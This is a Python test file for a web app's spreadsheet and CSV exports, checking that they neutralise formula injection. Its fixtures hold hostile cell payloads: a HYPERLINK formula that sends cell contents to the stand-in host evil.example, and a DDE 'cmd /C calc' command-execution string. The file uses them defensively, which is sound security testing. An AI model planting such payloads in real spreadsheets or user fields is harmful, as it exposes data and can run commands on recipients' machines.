"""Every spreadsheet export writes hostile user text as text, never as a live formula.

The exports: the ledger export and import template, 附表1–7 (a list table carries project
names), the audit trail as CSV and Excel.  Each is fetched over HTTP with a record whose text
starts with ``=``, ``@``, ``+`` or ``-``; the workbook's XML must hold no ``<f>`` element, the
text must come back exactly, and numbers must stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from tests.audit.helpers import write
from webapp.core.spreadsheet import csv_safe, looks_like_formula
from webapp.ledger import operations
from webapp.ledger.fields import KINDS

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+1"
MINUS = "-1+1"


def _no_formula(book: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name


def _cells(book: bytes) -> dict[str, object]:
    """Every non-empty cell of the first sheet: value → the openpyxl cell."""
    sheet = load_workbook(io.BytesIO(book)).worksheets[0]
    return {c.value: c for row in sheet.iter_rows() for c in row if c.value is not None}


def _assert_text(cells: dict[str, object], *texts: str) -> None:
    for text in texts:
        cell = cells[text]
        assert cell.data_type == "s" and cell.quotePrefix, text


@pytest.fixture
def hostile_project(make_user, org):
    clerk = make_user("clerk", "410102", "hostile_clerk")
    raw = {
        "registration_no": "EVIL-1",
        "name": HOSTILE,
        "structure_type": "框架",
        "area_m2": "10000.5",
        "cost_10k_yuan": "3000",
        "contractor": AT,
        "supervisor": PLUS,
        "progress": MINUS,
        "registered_on": "2026-07-01",
    }
    operations.save_record(clerk, KINDS["projects"], org("410102"), raw)


def test_the_rule_follows_owasp():
    for text in ("=1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert looks_like_formula(text) and csv_safe(text) == "'" + text
    for value in ("工程", "1=1", -5, 3.5, None, ""):
        assert not looks_like_formula(value) and csv_safe(value) == value


def test_ledger_export_keeps_hostile_text_as_text(logged_in, hostile_project):
    client = logged_in("reviewer", "410102")
    response = client.get("/ledger/projects/export.xlsx")
    assert response.status_code == 200
    book = response.get_data()
    _no_formula(book)
    cells = _cells(book)
    _assert_text(cells, HOSTILE, AT, PLUS, MINUS)
    assert cells[10000.5].data_type == "n"  # a number stays a number
    assert not cells["监督注册号"].quotePrefix  # ordinary text is left alone


def test_ledger_template_has_no_formula(logged_in):
    client = logged_in("clerk", "410102")
    for kind in KINDS:
        _no_formula(client.get(f"/ledger/{kind}/template.xlsx").get_data())


def test_summary_table_export_keeps_hostile_text_as_text(logged_in, hostile_project):
    client = logged_in("reviewer", "410102")
    response = client.get("/stats/table3.xlsx?org=410102&period=2026Q3")
    assert response.status_code == 200
    book = response.get_data()
    _no_formula(book)
    cells = _cells(book)
    _assert_text(cells, HOSTILE)
    assert any(c.data_type == "n" for c in cells.values())


def test_audit_exports_keep_hostile_text_as_text(logged_in):
    write("auth.login_failed", actor_name=HOSTILE, message=MINUS)
    client = logged_in("auditor", "410000")
    text = client.get("/audit/export.csv?action=auth.login_failed").get_data().decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[2] == "'" + HOSTILE and row[8] == "'" + MINUS
    assert row[0].isdigit()  # the record number is written as a number
    book = client.get("/audit/export.xlsx?action=auth.login_failed").get_data()
    _no_formula(book)
    cells = _cells(book)
    _assert_text(cells, HOSTILE, MINUS)
    assert any(c.data_type == "n" for c in cells.values())


def test_every_module_writing_spreadsheets_uses_the_shared_rule():
    """A new export cannot forget the rule: whoever builds a Workbook or writes CSV imports
    webapp.core.spreadsheet (and sets no cell value around it)."""
    from tests.conftest import ROOT

    writers = []
    for path in sorted((ROOT / "webapp").rglob("*.py")):
        text = path.read_text()
        if re.search(r"\bWorkbook\(|csv\.writer|csv\.DictWriter", text):
            writers.append(path.relative_to(ROOT).as_posix())
            assert "webapp.core.spreadsheet import" in text, path
            assert not re.search(r"\.cell\([^)]*value=|\.value = ", text), path
    assert writers == [
        "webapp/audit/export.py",
        "webapp/ledger/excel.py",
        "webapp/reports/board.py",
        "webapp/stats/excel.py",
    ]
